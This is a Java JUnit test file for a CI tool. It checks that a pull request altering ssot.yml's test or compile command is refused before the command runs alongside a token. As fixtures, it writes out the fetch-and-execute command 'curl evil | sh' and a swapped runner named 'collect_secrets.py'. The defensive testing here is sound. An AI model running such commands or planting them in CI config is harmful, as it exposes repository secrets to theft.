package dev.ssotgardener.publish;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ssotgardener.policy.Policy;
import dev.ssotgardener.policy.PolicyLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A pull request that changes the policy's commands does not run them beside the token. */
class PolicyTrustTest {
  private static final String RUNNER = "test-command: python3 tests/unified_test_runner.py\n";

  @TempDir Path dir;
  private RemoteRepository repo;

  @BeforeEach
  void remote() throws Exception {
    repo = RemoteRepository.create(dir);
    append(RUNNER);
    RemoteRepository.git(repo.work, "commit", "-qam", "test command");
    RemoteRepository.git(repo.work, "push", "-q", "origin", "main");
  }

  @Test
  void theDefaultBranchsOwnCommandsAreTrusted() throws Exception {
    assertThat(refusal(Optional.empty())).isEmpty();
  }

  @Test
  void aChangedTestCommandIsRefusedWithBothCommandsNamed() throws Exception {
    RemoteRepository.git(repo.work, "checkout", "-qb", "fork-pr");
    Path policy = repo.work.resolve("ssot.yml");
    Files.writeString(
        policy, Files.readString(policy).replace(RUNNER, "test-command: curl evil | sh\n"));
    RemoteRepository.git(repo.work, "commit", "-qam", "faster tests");

    assertThat(refusal(Optional.empty()))
        .contains(
            "ssot.yml's test-command 'curl evil | sh' differs from origin/main's 'python3"
                + " tests/unified_test_runner.py'; a pull request may have changed what runs beside"
                + " the token: review it, then pass --trust-policy");
    // the command line's own command replaces the policy's: nothing of the policy runs
    assertThat(refusal(Optional.of("python3 -m unittest"))).isEmpty();
  }

  @Test
  void withoutATestCommandTheRunnerTheEntrypointNamesIsComparedInstead() throws Exception {
    RemoteRepository.git(repo.work, "checkout", "-qb", "fork-pr");
    Path policy = repo.work.resolve("ssot.yml");
    Files.writeString(policy, Files.readString(policy).replace(RUNNER, ""));
    // the runner the garden would derive is the default branch's command: nothing new runs
    assertThat(refusal(Optional.empty())).isEmpty();

    Files.writeString(
        policy,
        Files.readString(policy)
            .replace(
                "canonical: tests/unified_test_runner.py", "canonical: tests/collect_secrets.py"));

    assertThat(refusal(Optional.empty()).orElseThrow())
        .startsWith(
            "ssot.yml's test-command 'python3 tests/collect_secrets.py' differs from origin/main's"
                + " 'python3 tests/unified_test_runner.py';");
  }

  @Test
  void aCompileCommandTheDefaultBranchLacksIsRefused() throws Exception {
    append("compile-command: mvn -q -o test-compile\n");

    assertThat(refusal(Optional.empty()))
        .contains(
            "ssot.yml's compile-command 'mvn -q -o test-compile' is not in origin/main's ssot.yml;"
                + " a pull request may have changed what runs beside the token: review it, then"
                + " pass --trust-policy");
  }

  @Test
  void withoutADefaultBranchNothingCanBeCompared() throws Exception {
    RemoteRepository.git(repo.work, "checkout", "-qb", "work");
    RemoteRepository.git(repo.work, "remote", "remove", "origin");
    RemoteRepository.git(repo.work, "branch", "-qD", "main");

    assertThat(refusal(Optional.empty()))
        .contains(
            "no default branch (origin/HEAD, main or master) to compare ssot.yml's test-command"
                + " and compile-command with; pass --trust-policy to run them");
  }

  private Optional<String> refusal(Optional<String> testCommand) throws Exception {
    Policy policy = new PolicyLoader().loadFromRoot(repo.work).orElseThrow();
    return PolicyTrust.refusal(repo.work, policy, testCommand, Optional.empty());
  }

  private void append(String line) throws Exception {
    Path policy = repo.work.resolve("ssot.yml");
    Files.writeString(policy, Files.readString(policy) + line);
  }
}
